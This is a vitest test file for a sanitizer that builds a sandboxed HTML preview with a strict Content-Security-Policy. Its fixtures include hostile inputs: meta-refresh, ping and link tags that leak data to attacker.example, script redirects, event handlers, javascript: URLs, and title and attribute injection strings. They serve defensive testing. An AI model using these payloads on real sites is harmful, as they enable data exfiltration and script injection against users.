import { describe, expect, it } from 'vitest';
import { artifactCsp, artifactCspWithScripts, buildArtifactDocument } from './build-artifact-document';

const options = { title: 'Sandboxed preview: Chart', lang: 'en', scripts: false };
const build = (html: string, overrides: Partial<typeof options> = {}) => buildArtifactDocument(html, { ...options, ...overrides });
const parse = (html: string) => new DOMParser().parseFromString(html, 'text/html');

describe('buildArtifactDocument', () => {
  it('starts the head with the CSP, then dns-prefetch off, charset, viewport, title and referrer, before any artifact markup', () => {
    const { html } = build('<style>h1{color:red}</style><h1 style="margin:0">Chart</h1>');
    const document = parse(html);
    expect(html.startsWith('<!doctype html><html lang="en"><head><meta http-equiv="Content-Security-Policy"')).toBe(true);
    expect([...document.head.children].map((element) => element.outerHTML)).toEqual([
      `<meta http-equiv="Content-Security-Policy" content="${artifactCsp}">`,
      '<meta http-equiv="x-dns-prefetch-control" content="off">',
      '<meta charset="utf-8">',
      '<meta name="viewport" content="width=device-width, initial-scale=1">',
      '<title>Sandboxed preview: Chart</title>',
      '<meta name="referrer" content="no-referrer">',
      '<style>h1{color:red}</style>',
    ]);
    expect(document.body.innerHTML).toBe('<h1 style="margin:0">Chart</h1>');
  });

  it('writes the exact policies, with inline scripts only when scripts are on', () => {
    expect(artifactCsp).toBe("default-src 'none'; img-src data:; media-src data:; font-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'");
    expect(artifactCspWithScripts).toBe(`${artifactCsp}; script-src 'unsafe-inline'`);
    const on = parse(build('<p>x</p>', { scripts: true }).html);
    expect(on.head.firstElementChild!.getAttribute('content')).toBe(artifactCspWithScripts);
    expect(parse(build('<p>x</p>').html).head.firstElementChild!.getAttribute('content')).not.toContain('script-src');
  });

  it('removes meta refresh in any spelling, anywhere, including in noscript', () => {
    const { html, removed } = build(
      [
        '<head><META HTTP-EQUIV = "Refresh" CONTENT="0;url=https://attacker.example/?d=1"></head>',
        "<body><p>hi</p><meta http-equiv=refresh content='0; URL=https://attacker.example/?d=2'>",
        '<noscript><meta http-equiv=" refresh " content="0;url=https://attacker.example/?d=3"><p>no js</p></noscript>',
        '<svg><meta http-equiv="refresh" content="0;url=https://attacker.example/?d=4"></svg></body>',
      ].join(''),
    );
    expect(html).not.toMatch(/refresh|attacker/i);
    expect(html).toContain('<p>no js</p>');
    expect(html).not.toContain('noscript');
    expect(removed).toEqual(['meta-refresh', 'noscript']);
  });

  it('removes base, links, an own CSP or referrer policy, frames, objects, embeds and ping', () => {
    const { html, removed } = build(
      [
        '<base href="https://attacker.example/"><base target="_top">',
        `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
        '<meta name="referrer" content="unsafe-url"><meta http-equiv="x-dns-prefetch-control" content="on">',
        ...['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'stylesheet', 'import', 'icon'].map(
          (rel) => `<link rel="${rel}" href="https://attacker.example/${rel}">`,
        ),
        '<iframe src="https://attacker.example/"></iframe><frame src="https://attacker.example/"><object data="https://attacker.example/"></object>',
        '<embed src="https://attacker.example/"><portal src="https://attacker.example/"></portal>',
        '<a href="https://example.com/" ping="https://attacker.example/ping">link</a><img src="data:image/png;base64,AA==" attributionsrc="https://attacker.example/">',
      ].join(''),
    );
    expect(html).not.toContain('attacker');
    expect(html).toContain('<a href="https://example.com/">link</a>');
    expect(parse(html).querySelectorAll('meta[http-equiv]')).toHaveLength(2);
    expect(removed).toEqual(['meta-http-equiv', 'base', 'link', 'embedded-frame', 'ping']);
  });

  it('removes scripts, handlers and javascript: URLs when scripts are off, and keeps them when on', () => {
    const artifact = [
      '<script>location.href = "https://attacker.example/"</script>',
      '<button onclick="go()" ONMOUSEOVER="go()">Go</button>',
      '<a href=" java\tscript:go()">a</a><form action="JAVASCRIPT:go()"></form>',
      '<svg><script>go()</script><a href="javascript:go()"><text>t</text></a></svg>',
      '<template><script>go()</script><img src="data:image/png;base64,AA==" onerror="go()"></template>',
    ].join('');
    const off = build(artifact);
    expect(off.html).not.toMatch(/script>|go\(\)|javascript/i);
    expect(off.html).toContain('<button>Go</button>');
    expect(off.html).toContain('<template><img src="data:image/png;base64,AA=="></template>');
    expect(off.removed).toEqual(['script', 'event-handler', 'javascript-url']);

    const on = build(artifact, { scripts: true });
    expect(on.html).toContain('<script>location.href = "https://attacker.example/"</script>');
    expect(on.html).toContain('onclick="go()"');
    expect(on.removed).toEqual([]);
  });

  it('drops noscript when scripts run, as the frame would never show it', () => {
    const { html } = build('<p>js</p><noscript><p>no js</p></noscript>', { scripts: true });
    expect(parse(html).body.innerHTML).toBe('<p>js</p>');
  });

  it('writes the title as text and the language as an attribute, escaped, over the artifact own', () => {
    const { html } = build('<html lang="xx" onload="go()"><head><title>Theirs</title><meta charset="latin1"></head><body></body></html>', {
      title: '</title><script>alert(1)</script>',
      lang: 'de" onload="x',
    });
    expect(html).toContain('<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>');
    expect(html).toContain('<html lang="de&quot; onload=&quot;x">');
    expect(html).not.toContain('<script>');
    expect(html).not.toContain('Theirs');
    expect(parse(html).querySelectorAll('title, meta[charset]')).toHaveLength(2);
  });

  it('keeps styles, including url() to foreign hosts, which the CSP blocks instead (img-src data:)', () => {
    const style = '<style>body{background:url(https://example.com/bg.png)}</style><div style="background-image:image-set(url(https://example.com/a.png) 1x)">x</div>';
    const { html } = build(style);
    expect(html).toContain('<style>body{background:url(https://example.com/bg.png)}</style>');
    expect(html).toContain('image-set(url(https://example.com/a.png) 1x)');
  });

  it('replaces a frameset with an empty body and stays stable when parsed again', () => {
    const { html, removed } = build('<frameset><frame src="https://attacker.example/"></frameset>');
    expect(parse(html).body.outerHTML).toBe('<body></body>');
    expect(removed).toContain('embedded-frame');
    const again = buildArtifactDocument(html, options).html;
    expect(parse(again).head.innerHTML).toBe(parse(html).head.innerHTML);
  });
});
